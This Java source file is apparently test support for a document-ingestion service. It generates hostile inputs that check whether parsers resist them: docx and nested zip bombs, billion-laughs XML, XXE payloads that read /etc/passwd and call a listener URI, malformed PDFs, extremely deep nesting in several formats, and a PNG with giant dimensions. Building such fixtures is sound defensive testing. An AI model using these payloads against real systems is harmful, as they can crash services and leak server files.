package askdocs.stack;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.URI;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Files made to burst, hang or betray whoever reads them. */
final class HostileFiles {
  private static final String WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

  private static final String CONTENT_TYPES =
      """
      <?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
      <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
      <Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>\
      </Types>\
      """;

  private static final String RELATIONS =
      """
      <?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
      <Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>\
      </Relationships>\
      """;

  private HostileFiles() {}

  /** What writes a part of an archive. */
  private interface Content {
    void write(OutputStream out) throws IOException;
  }

  /**
   * All of them by name.
   *
   * @param listener where no request may ever arrive
   */
  static Map<String, byte[]> all(URI listener) {
    Map<String, byte[]> files = new LinkedHashMap<>();
    files.put("bomb.docx", word(out -> repeat(out, "<w:document xmlns:w='" + WORD + "'>", ' ')));
    files.put("laughs.docx", word(out -> out.write(laughs().getBytes(UTF_8))));
    files.put("xxe.docx", word(out -> out.write(xxe(listener).getBytes(UTF_8))));
    files.put("nested.zip", nested());
    files.put("laughs.xml", laughs().getBytes(UTF_8));
    files.put("xxe.xml", xxe(listener).getBytes(UTF_8));
    files.put("xxe.svg", xxe(listener).replace("a>", "svg>").getBytes(UTF_8));
    files.put("xxe.html", xxe(listener).replace("a>", "html>").getBytes(UTF_8));
    files.put("pages.pdf", pdf("<</Type/Pages/Kids[]/Count 1410065407>>", ""));
    files.put("own-child.pdf", pdf("<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>", ""));
    files.put(
        "arrays.pdf", pdf("<</Type/Pages/Kids[]/Count 1/A " + "[".repeat(1_000_000) + ">>", ""));
    files.put("stream.pdf", pdf(page(), endless()));
    files.put(
        "xref.pdf", "%PDF-1.4\nxref\n0 0\ntrailer<</Prev 9>>\nstartxref\n9\n%%EOF".getBytes(UTF_8));
    files.put("deep.html", "<div>".repeat(20_000).getBytes(UTF_8));
    files.put("deep.xml", ("<a>".repeat(500_000)).getBytes(UTF_8));
    files.put("deep.json", "[".repeat(2_000_000).getBytes(UTF_8));
    files.put("deep.rtf", ("{\\rtf1" + "{".repeat(2_000_000)).getBytes(UTF_8));
    files.put("deep.md", ("> ".repeat(200_000) + "\n").repeat(5).getBytes(UTF_8));
    files.put("picture.png", png());
    files.put("zeros.txt", new byte[5_000_000]);
    return files;
  }

  private static byte[] word(Content document) {
    return zip(
        Map.of(
            "[Content_Types].xml", out -> out.write(CONTENT_TYPES.getBytes(UTF_8)),
            "_rels/.rels", out -> out.write(RELATIONS.getBytes(UTF_8)),
            "word/document.xml", document));
  }

  private static byte[] zip(Map<String, Content> entries) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      zip.setLevel(Deflater.BEST_SPEED);
      for (Map.Entry<String, Content> entry : entries.entrySet()) {
        zip.putNextEntry(new ZipEntry(entry.getKey()));
        entry.getValue().write(zip);
        zip.closeEntry();
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  /** A hundred million of the same character: half a megabyte once it is deflated. */
  private static void repeat(OutputStream out, String head, char what) throws IOException {
    out.write(head.getBytes(UTF_8));
    byte[] some = new byte[1 << 20];
    Arrays.fill(some, (byte) what);
    for (int i = 0; i < 100; i++) {
      out.write(some);
    }
  }

  private static byte[] nested() {
    byte[] inner = new byte[1 << 20];
    for (int level = 0; level < 10; level++) {
      byte[] one = inner;
      inner = zip(Map.of("a.zip", out -> out.write(one), "b.zip", out -> out.write(one)));
    }
    return inner;
  }

  private static String laughs() {
    StringBuilder text =
        new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY l0 \"ja\">");
    for (int level = 1; level < 12; level++) {
      text.append("<!ENTITY l%d \"%s\">".formatted(level, ("&l" + (level - 1) + ";").repeat(10)));
    }
    return text.append("]><a>&l11;</a>").toString();
  }

  private static String xxe(URI listener) {
    return """
    <?xml version="1.0"?><!DOCTYPE a SYSTEM "%s" [<!ENTITY %% p SYSTEM "%s">%%p;<!ENTITY e SYSTEM "%s">\
    <!ENTITY f SYSTEM "file:///etc/passwd">]><a>&e;&f;</a>\
    """
        .formatted(
            listener.resolve("/dtd"), listener.resolve("/parameter"), listener.resolve("/entity"));
  }

  /**
   * One whose catalogue is object 1 and whose page tree is object 2; readers find them by search.
   */
  private static byte[] pdf(String pages, String more) {
    return ("%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n"
            + pages
            + "\nendobj\n"
            + more
            + "trailer<</Root 1 0 R>>\n%%EOF\n")
        .getBytes(ISO_8859_1);
  }

  private static String page() {
    return "<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n"
        + "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>";
  }

  /** One word of a hundred million letters, where an operator should stand. */
  private static String endless() {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (OutputStream deflated = new DeflaterOutputStream(bytes, new Deflater(1))) {
      repeat(deflated, "q ", 'q');
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return "4 0 obj\n<</Filter/FlateDecode/Length "
        + bytes.size()
        + ">>\nstream\n"
        + bytes.toString(ISO_8859_1)
        + "\nendstream\nendobj\n";
  }

  /** An image of 2,000 million by 2,000 million dots. */
  private static byte[] png() {
    byte[] header = {'I', 'H', 'D', 'R', 0x7F, -1, -1, -1, 0x7F, -1, -1, -1, 8, 6, 0, 0, 0};
    CRC32 crc = new CRC32();
    crc.update(header);
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    bytes.writeBytes(new byte[] {-119, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13});
    bytes.writeBytes(header);
    for (int shift = 24; shift >= 0; shift -= 8) {
      bytes.write((int) (crc.getValue() >> shift));
    }
    return bytes.toByteArray();
  }
}
